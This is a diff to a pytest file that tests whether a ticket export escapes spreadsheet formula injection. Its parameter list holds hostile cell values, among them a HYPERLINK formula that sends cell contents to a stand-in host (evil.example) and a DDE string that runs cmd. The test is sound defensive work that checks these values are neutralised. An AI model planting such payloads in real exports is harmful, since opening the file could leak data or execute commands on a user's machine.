@@ -63,25 +63,30 @@ def test_holds_the_tickets_of_the_list(lead: Client, company: Company, agent: Ag
 
 
 @pytest.mark.parametrize(
-    "evil",
+    ("evil", "cell"),
     [
-        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        "  =1",
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        # Where the tab is the separator, the second cell begins behind it.
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("\n=1", "'\n'=1"),
+        ("  =1", "'  =1"),
+        ("Hola;=1+1;adios", "Hola;'=1+1;adios"),
     ],
 )
-def test_is_no_formula_whatever_a_company_writes(lead: Client, evil: str) -> None:
+def test_is_no_formula_whatever_a_company_writes(lead: Client, evil: str, cell: str) -> None:
     company = build.company(name=evil)
     build.ticket(company, comments=evil, carrier_name=evil)
 
     (row,) = exported(lead)
 
-    assert (row["company"], row["text"], row["carrier"]) == (f"'{evil}",) * 3
+    assert (row["company"], row["text"], row["carrier"]) == (cell,) * 3
 
 
 def test_leaves_other_text_alone(lead: Client, company: Company) -> None:
